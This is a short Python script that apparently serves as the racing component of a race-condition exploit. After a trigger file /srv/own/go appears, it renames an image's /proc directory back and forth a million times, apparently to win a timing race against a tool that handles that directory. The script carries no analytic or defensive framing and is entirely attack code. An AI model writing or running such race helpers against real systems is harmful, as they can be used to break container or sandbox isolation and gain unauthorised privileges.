"""Renames the /proc of the image `img` and renames it back, again and again, when /srv/own/go exists."""
import os, time
while not os.path.exists('/srv/own/go'): time.sleep(0.01)
for i in range(1000000): os.rename('img/proc', 'img/procX'); os.rename('img/procX', 'img/proc')
